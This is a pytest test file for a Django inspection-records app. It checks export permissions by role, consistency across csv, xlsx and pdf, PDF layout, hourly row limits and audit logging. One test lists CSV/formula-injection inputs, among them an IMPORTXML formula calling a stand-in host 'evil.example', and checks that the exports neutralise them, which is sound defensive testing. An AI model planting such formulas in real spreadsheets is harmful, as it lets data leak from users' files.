"""Every list gives away what it shows: who may, the same rows in each form, nothing that runs."""

from __future__ import annotations

import csv
import datetime as dt
import io

import openpyxl
import pytest
from django.urls import resolve, reverse
from django.utils import timezone
from pypdf import PdfReader

from accounts.listings import FORMS, LISTS, Form
from accounts.models import AuditEntry, User
from findings.models import Finding
from inspections.models import CalendarDay
from reports.bodies import load_body
from tests.desk.world import make_world
from tests.findings.factories import FindingFactory, make_visit
from tests.inspections.factories import TeamFactory, UserFactory, make_staff, make_unit

pytestmark = [pytest.mark.django_db, pytest.mark.once]

# address: system_admin, office, leader, secretary, hongngu, auditor
WHO = ("system_admin", "office", "leader", "secretary", "hongngu", "auditor")
MAY = {
    "/visits/": "nyynyy",
    "/findings/": "nyynyy",
    "/requests/": "nyynyy",
    "/units/": "nynnyy",
    "/plans/": "nyynny",
    "/teams/": "nyynny",
    "/documents/": "nyynyy",
    "/people/": "nynnnn",
    "/figures/": "nynnny",
    "/calendar/": "nyynyy",
    "/accounts/log/": "yynnny",
}


def csv_lines(answer) -> list[list[str]]:
    text = answer.content.decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff")), delimiter=";"))


def sheet_of(answer):
    return openpyxl.load_workbook(io.BytesIO(answer.content)).active


def pdf_pages(answer) -> list[str]:
    assert answer["Content-Type"] == "application/pdf"
    reader = PdfReader(io.BytesIO(answer.content))
    return [" ".join(page.extract_text().split()) for page in reader.pages]


@pytest.fixture
def office_client(client):
    client.force_login(UserFactory(role="office"))
    return client


def test_every_list_is_in_the_table():
    assert resolve("/")  # the pages are loaded
    assert {reverse(name) for name in LISTS} == set(MAY)


def test_each_role_takes_away_what_it_may(client, settings):
    settings.EXPORT_ROWS_PER_HOUR = 1000
    world, found = make_world(), []
    for place, who in enumerate(WHO):
        client.force_login(world.people[who])
        for address, letters in MAY.items():
            for form in ("xlsx", "csv", "pdf"):
                answer = client.get(f"{address}?export={form}")
                by_job = answer.get("Location", "").startswith("/accounts/jobs/")  # a long log
                code = 200 if by_job else answer.status_code
                if code != {"y": 200, "n": 403}[letters[place]]:
                    found.append(f"{who} {address} {form}: {code}")
            page = client.get(address)
            if (
                page.status_code == 200 and page.context["page_obj"]
                if address != "/calendar/"
                else 0
            ):
                offered = "export=pdf" in page.content.decode()
                assert offered == (letters[place] == "y"), (who, address)
    assert found == []


def test_the_three_forms_hold_the_same_rows(office_client):
    hongngu = make_visit(
        unit=make_unit("Thị xã Hồng Ngự", code="868"), held_on=dt.date(2018, 7, 17)
    )
    FindingFactory(visit=hongngu, condition="Kế hoạch còn chung chung.")
    FindingFactory(visit=make_visit(), condition="Đơn vị khác.")
    asked = "/findings/?unit=hong+ngu&held_from=01/07/2018"
    lines = csv_lines(office_client.get(f"{asked}&export=csv"))
    assert len(lines) == 2
    assert lines[0][:3] == ["Số, ký hiệu", "Đơn vị", "Ngày kiểm tra"]
    assert lines[1][1:5] == [
        "Thị xã Hồng Ngự",
        "17/07/2018",
        "tồn tại, hạn chế",
        "Kế hoạch còn chung chung.",
    ]
    row = [cell.value for cell in sheet_of(office_client.get(f"{asked}&export=xlsx"))[2]]
    assert row[2] == dt.datetime(2018, 7, 17)  # noqa: DTZ001
    assert [row[1], *row[3:5]] == [lines[1][1], *lines[1][3:5]]
    (page,) = pdf_pages(office_client.get(f"{asked}&export=pdf"))
    for words in ("Thị xã Hồng Ngự", "17/07/2018", "Kế hoạch còn chung chung."):
        assert words in page
    assert "Đơn vị khác." not in page


def test_the_paper_says_what_it_is(office_client):
    visit = make_visit(unit=make_unit("Huyện Lấp Vò"))
    for n in range(60):
        FindingFactory(visit=visit, condition=f"Hạn chế thứ {n + 1}: chưa ban hành kế hoạch.")
    pages = pdf_pages(office_client.get("/findings/?unit=lap+vo&kind=limitation&export=pdf"))
    assert len(pages) > 2
    assert "Ưu điểm và hạn chế" in pages[0]
    assert "Loại: tồn tại, hạn chế; Đơn vị được kiểm tra: lap vo" in pages[0]
    assert "60 dòng, in lúc" in pages[0]
    assert f"ngày {timezone.localdate():%d/%m/%Y}" in pages[0]
    for number, page in enumerate(pages, 1):
        assert "Nội dung" in page, "the heads stand on every page"
        assert f"{number}/{len(pages)}" in page
    assert "Hạn chế thứ 60:" in pages[-1]


def test_the_paper_lies_across_for_wide_lists_and_has_one_family(office_client):
    FindingFactory(visit=make_visit(), condition="Ủy ban ☑ đã phân công.")
    TeamFactory()
    box = {}
    for address in ("/findings/", "/teams/"):
        reader = PdfReader(io.BytesIO(office_client.get(f"{address}?export=pdf").content))
        page = reader.pages[0]
        box[address] = page.mediabox.width > page.mediabox.height
        fonts = {font.get_object()["/BaseFont"] for font in page["/Resources"]["/Font"].values()}
        faces = {str(name).partition("+")[2].partition("-")[0] for name in fonts}
        signs = {"CCHCSigns"} if address == "/findings/" else set()
        assert faces == {"LiberationSerif2"} | signs
    assert box == {"/findings/": True, "/teams/": False}


def test_a_pdf_of_too_many_rows_is_refused_in_words(office_client, monkeypatch):
    form = FORMS["pdf"]
    monkeypatch.setitem(FORMS, "pdf", Form(form.content_type, form.write, at_most=1))
    for day in (1, 2):
        CalendarDay.objects.create(date=dt.date(2018, 9, day), kind="off", name="Nghỉ")
    answer = office_client.get("/calendar/?year=2018&export=pdf")
    assert answer.status_code == 409
    assert "Danh sách có 2 dòng; bản in chỉ chứa được 1 dòng." in answer.content.decode()
    assert office_client.get("/calendar/?year=2018&export=csv").status_code == 200


# The texts of the `export` items of the project's list of bad inputs, as a database may hold them.
RUNNING = {
    "EX-001": "=1+1",
    "EX-003": "==1+1",
    "EX-005": "-2+3",
    "EX-007": "\t=1+1",
    "EX-009": "\n=1+1",
    "EX-011": "\x00=1+1",
    "EX-015": "＝1+1",
    "EX-017": '=IMPORTXML("http://evil.example","//a")',
    "EX-019": "−5 hồ sơ",
}
HARMLESS = {"EX-013": "a;=1+1;b", "EX-021": "0087", "EX-022": "Đồng Tháp", "minutes": "Tổ 1 - Tổ 2"}


@pytest.mark.parametrize("text", [*RUNNING.values(), *HARMLESS.values()], ids=[*RUNNING, *HARMLESS])
def test_no_cell_runs_and_the_row_keeps_its_text(office_client, text):
    row = FindingFactory(visit=make_visit(), condition="x")
    # past the field, which would clean some of these: an older row may hold anything
    stored = text.replace("\x00", "")  # PostgreSQL takes no NUL
    Finding.objects.filter(pk=row.pk).update(cause=stored)
    kept = Finding.objects.get(pk=row.pk).cause
    cell = sheet_of(office_client.get("/findings/?export=xlsx"))[2][9]
    assert (cell.data_type, cell.value) == ("s", kept)
    (told,) = [line[9] for line in csv_lines(office_client.get("/findings/?export=csv"))[1:]]
    assert told == (f"'{kept}" if text in RUNNING.values() else kept)
    assert Finding.objects.get(pk=row.pk).cause == kept


def test_the_log_of_acts_names_the_export(office_client):
    make_unit("Huyện Lấp Vò")
    office_client.get("/units/?q=lap+vo&export=pdf")
    act = AuditEntry.objects.get(act="export")
    assert act.target == "Đơn vị (Tên hoặc mã: lap vo)"
    assert act.detail == {"rows": 1, "filter": "Tên hoặc mã: lap vo", "format": "pdf"}


def test_so_many_files_an_hour_are_enough_and_the_refusal_leads_back(office_client, settings):
    load_body()  # without an issuing body a summary is refused for another reason
    settings.EXPORT_ROWS_PER_HOUR = 2
    answers = [office_client.get("/teams/?export=csv") for _n in range(3)]
    assert [answer.status_code for answer in answers] == [200, 200, 409]
    first = AuditEntry.objects.filter(act="export").earliest("at").at
    free = timezone.localtime(first + dt.timedelta(hours=1))
    page = answers[-1].content.decode()
    assert f"đã kết xuất 2. Kết xuất tiếp được từ {free:%H:%M}." in page
    assert 'href="/teams/"' in page
    summary = office_client.get("/summaries/y2018-h1/summary.xlsx")
    assert summary.status_code == 409
    assert 'href="/summaries/y2018-h1/"' in summary.content.decode()


@pytest.mark.parametrize(
    ("address", "asked", "shown"),
    [
        ("/teams/", {"q": "thuan"}, ["Đoàn A"]),
        ("/teams/", {"q": "ĐOÀN b"}, ["Đoàn B"]),
        ("/teams/", {"year": "2018"}, ["Đoàn A"]),
        ("/teams/", {"year": "mười"}, []),
    ],
)
def test_teams_are_filtered_from_the_address(office_client, address, asked, shown):
    first = TeamFactory(people=False, name="Đoàn A", decision_date=dt.date(2018, 6, 1))
    first.members.create(role="leader", full_name="Nguyễn Văn Thuận")
    TeamFactory(people=False, name="Đoàn B", decision_date=dt.date(2019, 6, 1))
    assert [team.name for team in office_client.get(address, asked).context["page_obj"]] == shown


def test_people_are_found_without_accents(client):
    client.force_login(UserFactory(role="system_admin", full_name="Lê Quản Trị"))
    UserFactory(role="inspector", full_name="Đặng Thị Hòa", username="hoadt")
    UserFactory(role="office", full_name="Đặng Nghỉ Việc", is_active=False)
    for asked, names in {
        "q=dang+hoà": ["Đặng Thị Hòa"],
        "q=HOADT": ["Đặng Thị Hòa"],
        "q=dang": ["Đặng Thị Hòa"],
        "q=dang&closed=1": ["Đặng Thị Hòa", "Đặng Nghỉ Việc"],
        "role=inspector": ["Đặng Thị Hòa"],
    }.items():
        rows = client.get(f"/people/?{asked}").context["rows"]
        assert [person.full_name for person, _postings in rows] == names, asked
    assert User.objects.count() == 3


def test_a_list_of_a_unit_is_its_own(client):
    mine, other = make_visit(issued=True), make_visit(issued=True)
    FindingFactory(visit=mine, condition="Của đơn vị tôi.")
    FindingFactory(visit=other, condition="Của nơi khác.")
    client.force_login(make_staff(mine.unit))
    (page,) = pdf_pages(client.get("/findings/?export=pdf"))
    assert "Của đơn vị tôi." in page
    assert "Của nơi khác." not in page


def who(client) -> User:
    return User.objects.get(pk=client.session["_auth_user_id"])


def test_many_short_files_are_ordinary_work_and_one_long_list_is_not(
    office_client, office, settings
):
    settings.EXPORT_ROWS_PER_HOUR = 100
    for _file in range(30):
        assert office_client.get("/teams/?export=csv").status_code == 200
    AuditEntry.objects.create(act="export", user=who(office_client), detail={"rows": 70})
    answer = office_client.get("/teams/?export=csv")
    assert answer.status_code == 409
    page = answer.content.decode()
    assert "tối đa 100 dòng trong một giờ" in page
    assert "đã kết xuất 100." in page


def test_the_page_that_refuses_a_bundle_shows_no_names_of_fields(office_client, settings):
    settings.EXPORT_ROWS_PER_HOUR = 1
    AuditEntry.objects.create(act="export", user=who(office_client), detail={"rows": 1})
    sent = {"of": "documents", "bind_as": "pdf", "query": "year=2018", "form_key": "a"}
    page = office_client.post("/documents/bundle/", sent)
    assert page.status_code == 409
    inside = page.content.decode().split("<main")[1].split("</main>")[0]
    assert "tối đa 1 dòng" in inside
    for raw in ("documents</", ">of<", ">form<", "year=2018"):
        assert raw not in inside
